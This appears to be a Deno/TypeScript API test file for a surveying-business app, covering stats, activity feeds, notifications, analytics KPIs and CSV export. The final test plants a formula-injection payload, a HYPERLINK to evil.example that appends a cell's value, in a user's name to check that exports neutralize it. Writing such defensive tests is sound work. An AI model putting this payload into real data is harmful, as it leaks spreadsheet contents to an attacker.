import assert from "node:assert/strict";
import { commitElsewhere, expectOk, withTestApp } from "../testing.ts";
import { eq } from "drizzle-orm";
import { users } from "../../db/schema/mod.ts";

Deno.test("[api] GET /api/stats answers numbers and change strings for every period", () =>
  withTestApp(async (t) => {
    for (const period of ["7d", "30d", "90d", "1y", "all"]) {
      const s = await expectOk(t.as("engineer@demo.local").api.stats.$get({ query: { period } }), 200);
      for (
        const key of ["activeProjects", "tasksInProgress", "completedTasks", "teamSize", "revenue"] as const
      ) {
        assert.equal(typeof s[key], "number", key);
      }
      for (const key of ["projectsChange", "tasksChange", "teamChange"] as const) {
        assert.match(s[key], /^(\+\d+ нов(ый|ая|ых) за .+|новых за .+ нет)$/, `${key}=${s[key]}`);
      }
      assert.ok(
        s.revenueChange === null || /^([+−]\d+%|0%|новое)$/.test(s.revenueChange),
        `revenueChange=${s.revenueChange}`,
      );
    }
    // Without ?period=: the default period.
    const s = await expectOk(t.as("engineer@demo.local").api.stats.$get({ query: {} }));
    assert.equal(s.period, "30d");
    assert.equal(s.activeProjects, 8, "ten demo objects, one completed and one cancelled");
    assert.equal(s.teamSize, 7);
    assert.equal((await t.as("engineer@demo.local").api.stats.$get({ query: { period: "2w" } })).status, 422);
    const other = await expectOk(t.as("admin@other.local").api.stats.$get({ query: {} }));
    assert.equal(other.activeProjects, 2);
    assert.equal(other.teamSize, 1);
  }));

Deno.test("[api] GET /api/activity and /api/activities answer the same feed of the company", () =>
  withTestApp(async (t) => {
    const engineer = t.as("engineer@demo.local").api;
    const a = await expectOk(engineer.activity.$get({ query: {} }));
    const b = await expectOk(engineer.activities.$get({ query: {} }));
    assert.ok(a.length > 0);
    assert.deepEqual(a, b);
    for (const item of a) {
      assert.ok(["task", "document", "other"].includes(item.type));
      assert.ok(
        "title" in item && "status" in item && "fileName" in item && "objectId" in item &&
          "createdAt" in item,
      );
    }
    const other = await expectOk(t.as("admin@other.local").api.activity.$get({ query: {} }));
    assert.equal(other.length, 0);
  }));

Deno.test("[api] PUT /api/notifications/mark-all-read leaves nothing unread", () =>
  withTestApp(async (t) => {
    const notifications = t.as("surveyor@demo.local").api.notifications;
    const before = await (await notifications.$get({ query: {} })).json();
    assert.ok(before.some((n) => !n.isRead));
    const res = await notifications["mark-all-read"].$put();
    assert.equal(res.status, 200);
    const after = await (await notifications.$get({ query: {} })).json();
    assert.equal(after.filter((n) => !n.isRead).length, 0);
    const count = await (await notifications["unread-count"].$get()).json();
    assert.equal(count.count, 0);
  }));

Deno.test("[api] the bell's unread count follows each notification and each read, another process's too", () =>
  withTestApp(async (t) => {
    const notifications = t.as("surveyor@demo.local").api.notifications;
    const unread = async () => (await (await notifications["unread-count"].$get()).json()).count;
    const listed = async () =>
      (await (await notifications.$get({ query: {} })).json()).filter((n) => !n.isRead).length;
    const first = await unread();
    assert.equal(first, await listed());
    // A task edit tells its assignee (the surveyor's task 3).
    await expectOk(
      t.as("engineer@demo.local").api.tasks[":id"].$patch({
        param: { id: "3" },
        json: { description: "Уточнить отметку дна колодца" },
      }),
    );
    assert.equal(await unread(), first + 1);
    await commitElsewhere(t, "UPDATE notifications SET is_read = 1 WHERE user_id = 5");
    assert.equal(await unread(), 0);
    assert.equal(await listed(), 0);
  }));

Deno.test("[api] GET /api/analytics answers KPIs, money and recommendations; each table downloads as CSV", () =>
  withTestApp(async (t) => {
    const a = await (await t.as("engineer@demo.local").api.analytics.$get({ query: { period: "all" } }))
      .json();
    assert.equal(a.kpi.activeObjects, 8);
    // The demo's two late tasks and its overdue service visit (db/seed/service_visits.ts).
    assert.equal(a.kpi.overdueTasks, 3);
    // Ten objects in every status and the three finished jobs (db/seed/finished_jobs.ts).
    assert.equal(a.finance.objectCount, 13);
    assert.equal(a.finance.averageKopecks, Math.round(a.finance.estimatedKopecks / 13));
    assert.ok(a.recommendations.some((r) => r.title === "Есть просроченные задачи"));
    assert.ok(
      !a.recommendations.some((r) => r.title === "Высокая загрузка"),
      "8 active tasks are not high workload",
    );
    for (const table of ["objects", "tasks", "workTypes", "performance", "team"]) {
      const res = await t.as("engineer@demo.local").api.analytics.export.$get({
        query: { table, period: "all" },
      });
      assert.equal(res.status, 200, table);
      assert.match(res.headers.get("content-type") ?? "", /text\/csv/);
      const csv = await res.text();
      assert.ok(csv.startsWith("\uFEFF"));
      assert.ok(csv.trim().split("\r\n").length >= 2, table);
    }
    const page = await t.request("/analytics?period=all&tab=performance", { as: "engineer@demo.local" });
    assert.equal(page.status, 200);
    assert.match(await page.text(), /<svg[^>]*class="chart bar-chart"[\s\S]*Рекомендации/);
  }));

Deno.test("recommend() warns of high workload above 10 active tasks", async () => {
  const { recommend } = await import("../../db/analytics.ts");
  const base = {
    period: "30d" as const,
    kpi: { activeObjects: 1, completedObjects: 0, activeTasks: 11, overdueTasks: 0 },
    finance: {
      revenueKopecks: 0,
      contractedKopecks: 0,
      owedKopecks: 0,
      estimatedKopecks: 0,
      averageKopecks: 0,
      objectCount: 1,
    },
    team: [{ role: "measurement_engineer" as const, count: 1 }],
    objectsByStatus: [],
    workTypes: [],
    tasksByStatus: [],
    tasksByPriority: [],
    performance: { totalTasks: 11, completedTasks: 6, completionPercent: 55, averageDays: 1, people: [] },
  };
  assert.equal(recommend(base, 0)[0].title, "Высокая загрузка");
  assert.equal(
    recommend({ ...base, kpi: { ...base.kpi, activeTasks: 10 } }, 0)[0].title,
    "Показатели в норме",
  );
});

Deno.test("[api] GET /api/analytics/export neutralizes a name that a spreadsheet would run as a formula", () =>
  withTestApp(async (t) => {
    const attack = '=HYPERLINK("http://evil.example/?x="&B2,"open")';
    await t.deps.db.update(users).set({ firstName: attack, lastName: "+7" })
      .where(eq(users.email, "surveyor@demo.local"));
    const res = await t.as("director@demo.local").api.analytics.export.$get({
      query: { table: "performance", period: "all" },
    });
    assert.equal(res.status, 200);
    const cells = (await res.text()).split(/\r\n/).flatMap((line) => line.split(";"));
    assert.ok(cells.some((cell) => cell.startsWith(`"'=HYPERLINK(`)), "the name is there, quoted");
    for (const cell of cells) {
      assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+@\t\r]/, `cell ${JSON.stringify(cell)}`);
    }
  }));
